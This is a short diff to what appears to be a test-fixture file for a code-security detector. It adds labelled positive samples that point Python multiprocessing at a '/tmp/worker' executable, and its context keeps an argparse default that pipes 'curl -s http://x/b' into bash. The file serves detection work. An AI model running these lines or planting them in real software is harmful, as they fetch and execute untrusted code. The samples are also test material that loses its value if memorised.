@@ -201,3 +201,14 @@ ap = argparse.ArgumentParser()
 ap.add_argument("--step", nargs="*", default=["bash", "-c", "curl -s http://x/b | bash"])
 opts = ap.parse_args()
 subprocess.call(opts.step)
+#@ pos multiprocessing's interpreter replaced (set_executable)
+import multiprocessing
+multiprocessing.set_executable("/tmp/worker")
+multiprocessing.get_context("spawn").Process(target=print).start()
+#@ pos a context's interpreter replaced, for a process pool
+import concurrent.futures, multiprocessing as mp
+ctx = mp.get_context("forkserver")
+ctx.set_executable("/tmp/worker")
+#@ pos spawn's set_executable
+from multiprocessing import spawn
+spawn.set_executable("/tmp/worker")
